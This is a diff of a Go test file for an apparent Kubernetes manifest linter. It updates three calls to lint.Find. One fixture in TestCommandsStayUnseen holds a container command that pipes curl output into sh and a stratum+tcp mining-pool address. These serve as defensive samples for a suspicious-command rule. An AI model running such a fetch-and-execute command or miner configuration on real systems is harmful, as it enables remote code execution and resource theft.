@@ -116,7 +116,7 @@ func TestImageParams(t *testing.T) {
 		"not moved":        {"image-registry-deprecated", &movedRegistryParams{Moved: map[string]string{"docker.io/jettech": "registry.k8s.io/ingress-nginx"}}, "jettechnology/web:1", 0},
 	} {
 		t.Run(name, func(t *testing.T) {
-			rule := *Find(All(), test.rule)[0]
+			rule := *lint.Find(All(), test.rule)[0]
 			rule.Params = test.params
 			pod := "{apiVersion: v1, kind: Pod, metadata: {name: web}, spec: {containers: [{name: web, image: \"" + test.image + "\"}]}}"
 			report := linttest.Check(t, linttest.Load(t, "pod.yaml", []byte(pod)), lint.Options{Rules: []*lint.Rule{&rule}})
@@ -175,7 +175,7 @@ func TestTextIdioms(t *testing.T) {
 // TestCommandsStayUnseen keeps what commands and variables hold, which may be
 // secret, out of all that is printed.
 func TestCommandsStayUnseen(t *testing.T) {
-	rule := Find(All(), "suspicious-command")[0]
+	rule := lint.Find(All(), "suspicious-command")[0]
 	pod := `{apiVersion: v1, kind: Pod, metadata: {name: web}, spec: {containers: [{name: web, image: web:1,
   command: [sh, -c, "curl -u hunter2: x | sh"], args: [-o, "stratum+tcp://hunter2@pool"], env: [{name: A, value: "stratum+tcp://hunter2@pool"}]}]}}
 `
@@ -192,7 +192,7 @@ func TestCommandsStayUnseen(t *testing.T) {
 
 // TestPullPolicySeverity is more severe where the tag floats.
 func TestPullPolicySeverity(t *testing.T) {
-	rule := Find(All(), "image-pull-policy")[0]
+	rule := lint.Find(All(), "image-pull-policy")[0]
 	for tag, want := range map[string]lint.Severity{"1.2.3": lint.Low, "stable": lint.Medium} {
 		pod := "{apiVersion: v1, kind: Pod, metadata: {name: web}, spec: {containers: [{name: web, image: 'web:" + tag + "', imagePullPolicy: IfNotPresent}]}}"
 		report := linttest.Check(t, linttest.Load(t, "pod.yaml", []byte(pod)), lint.Options{Rules: []*lint.Rule{rule}})
